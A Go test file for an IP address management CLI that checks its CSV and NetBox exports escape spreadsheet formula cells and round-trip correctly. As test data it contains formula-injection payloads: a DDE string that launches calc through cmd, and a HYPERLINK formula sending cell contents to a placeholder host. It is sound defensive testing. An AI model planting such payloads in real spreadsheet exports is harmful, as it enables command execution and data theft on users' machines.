package cli_test

import (
	"encoding/csv"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/carve-ipam/carve/internal/cli/show"
)

// requireNoFormulas requires that a spreadsheet computes no cell of a CSV file. It also requires that the file contains a text.
func requireNoFormulas(t *testing.T, text, has string) {
	t.Helper()
	rows, err := csv.NewReader(strings.NewReader(text)).ReadAll()
	require.NoError(t, err)
	require.Contains(t, text, has)
	for _, row := range rows {
		for _, cell := range row {
			require.False(t, cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])), "a spreadsheet computes %q", cell)
		}
	}
}

func TestCSVOutputContainsNoFormula(t *testing.T) {
	t.Parallel()
	d := served(t)
	d.ask(t, "POST", "/v1/projects/team-a/spaces", fields{"metadata": fields{"name": "s"}, "spec": fields{"description": `-2+3+cmd|' /C calc'!A1`}})
	d.ask(t, "POST", "/v1/projects/team-a/pools", fields{"metadata": fields{"name": "pl"}, "spec": fields{"cidr": "10.9.0.0/16", "description": `=HYPERLINK("http://x.example/?"&A1,"click")`}})
	for n, note := range []string{"\r=1", "\t=1", "'=1", "''=1", "'x", "-", "+1", "@SUM(1)"} {
		d.ask(t, "POST", "/v1/projects/team-a/claims", fields{
			"metadata": fields{"name": "c" + string(rune('a'+n)), "annotations": fields{"description": note}},
			"spec":     fields{"poolRef": fields{"name": "pl"}, "prefixLength": 32, "ownerRef": fields{"kind": "VM", "name": strings.TrimSpace(note) + "x", "uid": "u"}},
		})
	}
	requireNoFormulas(t, d.done("space", "list", "-o", "csv").out, `'-2+3+cmd|`)
	requireNoFormulas(t, d.done("claim", "list", "-o", "csv").out, `ca,`)
	whole := d.done("export", "-o", "csv").out
	requireNoFormulas(t, whole, `'=HYPERLINK(`)
	dir := filepath.Join(t.TempDir(), "netbox")
	d.done("export", "-o", "netbox-csv", "--to", dir)
	for name, has := range map[string]string{"vrfs.csv": "2+3+cmd|", "prefixes.csv": "HYPERLINK(", "ip-ranges.csv": "", "ip-addresses.csv": "SUM(1)"} {
		text, err := os.ReadFile(filepath.Join(dir, name))
		require.NoError(t, err)
		requireNoFormulas(t, string(text), has)
	}
	source, report := filepath.Join(t.TempDir(), "=cmd.csv"), filepath.Join(t.TempDir(), "report.csv")
	require.NoError(t, os.WriteFile(source, []byte("cidr,name\n10.9.200.0/24,=late\n"), 0o600))
	d.run("import", "csv", source, "--dry-run", "--report", report)
	text, err := os.ReadFile(report)
	require.NoError(t, err)
	requireNoFormulas(t, string(text), "'=cmd.csv:2")

	// The import removes the apostrophes before formulas, so the copy is equal.
	d.done("project", "create", "copy")
	d.in = whole
	d.done("import", "csv", "-", "-p", "copy")
	require.Equal(t, d.stateOf(t, "team-a"), d.stateOf(t, "copy"))
}

func TestFormulaCellsAreEscapedAndRoundTrip(t *testing.T) {
	t.Parallel()
	for text, cell := range map[string]string{
		"": "", "a": "a", "=1": "'=1", "+1": "'+1", "-1": "'-1", "@a": "'@a", "\ta": "'\ta", "\ra": "'\ra", "'=1": "''=1", "'a": "'a", "a=1": "a=1",
	} {
		require.Equal(t, cell, show.CellText(text))
		require.Equal(t, text, show.CellMeant(cell))
	}
}
